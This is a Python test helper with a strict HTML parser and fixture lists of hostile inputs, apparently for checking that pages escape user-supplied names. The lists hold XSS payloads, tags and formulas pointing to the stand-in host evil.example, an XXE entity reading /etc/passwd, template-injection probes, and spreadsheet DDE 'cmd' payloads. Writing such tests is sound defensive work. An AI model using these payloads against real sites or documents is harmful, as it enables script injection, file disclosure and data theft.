"""Reading HTML pages in tests: a strict parser, and names that want to be more than names."""

from __future__ import annotations

from dataclasses import dataclass, field
from html.parser import HTMLParser

VOID = frozenset({"meta", "link", "img", "input", "br", "hr"})
SVG_EMPTY = frozenset({"circle", "line", "path", "polyline", "rect", "use"})


@dataclass
class Parsed(HTMLParser):
    """The tags of a page in order, with their attributes. Raises AssertionError where an element is not closed, or closed twice."""

    text: str
    tags: list[tuple[str, dict[str, str | None]]] = field(default_factory=list)
    words: str = ""
    _open: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.feed(self.text)
        self.close()
        assert self._open == [], f"left open: {self._open}"

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag not in VOID:
            self._open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in SVG_EMPTY, f"<{tag}/> is not closed in HTML"
        self.tags.append((tag, dict(attrs)))

    def handle_endtag(self, tag: str) -> None:
        assert self._open, f"</{tag}> closes nothing"
        assert self._open[-1] == tag, f"</{tag}> closes <{self._open[-1]}>"
        self._open.pop()

    def handle_data(self, data: str) -> None:
        self.words += data

    @property
    def shape(self) -> list[tuple[str, tuple[str, ...]]]:
        """Every element and the names of its attributes: equal for pages that differ in text only."""
        return [(tag, tuple(attributes)) for tag, attributes in self.tags]

    def values(self, *names: str) -> list[str]:
        """Every value of these attributes."""
        return [value for _, attributes in self.tags for name in names if (value := attributes.get(name)) is not None]


HOSTILE = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)"/>',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "</svg><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</text><a href='javascript:alert(1)'>x</a>",
    "</table><iframe src=//evil.example>",
    "</td><td>one more cell",
    "</option><option selected>mine",
    "</caption><h1>big",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=key>",
    "<!--",
    "-->",
    "<!-- --><b>x</b>",
    "<![CDATA[ x ]]>",
    "]]>",
    "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&e;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    "&#x3c;b&#x3e;",
    "&amp;&&&",
    "AT&T",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    'x" style="position:fixed',
    'x" xlink:href="javascript:alert(1)',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{7*7}}",
    "{{ config.items() }}",
    "{% for x in y %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%s %d %n {0} {}",
    "\x00null\x00",
    "a\x00<script>",
    "\x1b[31mred",
    "tab\tand\nline\r\nends",
    "\u202egpj.exe\u202c",
    "\u2066left\u2067right\u2069",
    "\ufeffbom\ufffe\uffff",
    "\ud800lone surrogate",
    "\u200b\u200bzero width",
    "e\u0301" * 300,
    "👩\u200d👩\u200d👧\u200d👦 family",
    "x" * 10_000,
    "<" * 10_000,
    "&" * 10_000,
    "",
    " ",
)
"""Sixty and more names: markup, attributes, entities, templates, control characters, length."""
assert len(HOSTILE) >= 60

FORMULAS = (
    "=1+1",
    '=HYPERLINK("http://evil.example","click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    'x","=1+1',
    "x\r\n=1+1,2",
)
"""What a spreadsheet might calculate."""
